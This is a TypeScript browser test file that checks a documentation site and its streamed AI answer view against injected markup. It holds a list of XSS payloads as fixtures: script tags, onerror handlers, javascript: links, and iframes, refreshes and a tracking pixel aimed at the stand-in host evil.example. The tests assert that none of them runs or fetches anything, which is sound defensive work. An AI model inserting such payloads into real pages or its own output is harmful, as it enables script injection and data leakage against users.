import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launch, openPage, skipReason } from './browser.ts';
import { documentFrom } from './corpus.ts';
import { type FakeServer, startFakeServer } from './fake-server.ts';
import { sourceOf } from './script-answer.ts';

const attacks = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example">',
  '<a href="javascript:window.hacked = 1">click</a>',
  '[click](javascript:window.hacked%20=%201)',
  '[click](JAVASCRIPT&colon;window.hacked=1)',
  '![pixel](https://evil.example/pixel.png?secret)',
  '![pixel][ref] [words][ref]',
  '[ref]: https://evil.example/reference.png',
  '# <img src=x onerror="window.hacked = 1"> in a heading',
  '| <img src=x onerror="window.hacked = 1"> | ![](https://evil.example/table.png) |\n| - | - |\n| a | b |',
  '`<img src=x onerror=window.hacked=1>`',
  '```html\n<script>window.hacked = 1</script>\n```',
  'https://evil.example/auto www.evil.example',
  '[^1] and [^1]: ![](https://evil.example/note.png)',
].join('\n\n');

describe.skipIf(skipReason)('attacks in documents and in a model’s words', () => {
  let browser: Browser;
  let server: FakeServer;

  beforeAll(async () => {
    browser = await launch();
    server = await startFakeServer({
      documents: [documentFrom('bad.md', `# Bad\n\n${attacks}\n\n## End\n\nThe end.\n`)],
    });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  /** Goes to a place, clicks what looks like a link there, and tells what got out. */
  async function visit(reach: (page: Awaited<ReturnType<typeof openPage>>['page']) => Promise<void>) {
    const { page, strays, faults } = await openPage(browser, server.url);
    await reach(page);
    const drawn =
      '.prose :is(script, img, iframe, svg:not(.icon), link, meta, style, object, [onerror], [onload])';
    const result = {
      hacked: await page.evaluate('window.hacked ?? 0'),
      elements: await page.locator(drawn).count(),
      badLinks: await page.locator('.prose a:not([href^="/docs/"]):not([href^="https://"])').count(),
      outside: await page.locator('.prose a[href^="https://"]').count(),
      strays,
      faults,
    };
    await page.context().close();
    return result;
  }

  it('nothing runs and nothing is fetched from a document’s page', async () => {
    const result = await visit(async (page) => {
      await page.goto('/docs/bad.md');
      await page.getByText('The end.').waitFor();
    });
    expect(result).toMatchObject({ hacked: 0, elements: 0, badLinks: 0, strays: [], faults: [] });
  });

  it('nothing runs, is fetched or links outside from an answer that comes letter by letter', async () => {
    const place = {
      path: 'bad.md',
      anchor: 'end',
      excerpt: '<img src=x onerror="window.hacked = 1">The end.',
    };
    server.answerWith([
      { type: 'sources', sources: [sourceOf(server.documents, place, 1)] },
      ...[...attacks].map((text) => ({ type: 'delta', text }) as const),
      { type: 'delta', text: '\n\nThe end. [1]' },
      { type: 'done', mode: 'written', score: 1, version: 1, timings: {} },
    ]);
    const result = await visit(async (page) => {
      await page.goto('/');
      await page.getByLabel('Your question').fill('<img src=x onerror="window.hacked = 1">');
      await page.keyboard.press('Enter');
      await page.locator('.actions').waitFor();
      await page.locator('.cite').hover();
      await page.locator('.card').waitFor();
    });
    expect(result).toEqual({ hacked: 0, elements: 0, badLinks: 0, outside: 0, strays: [], faults: [] });
  });
});
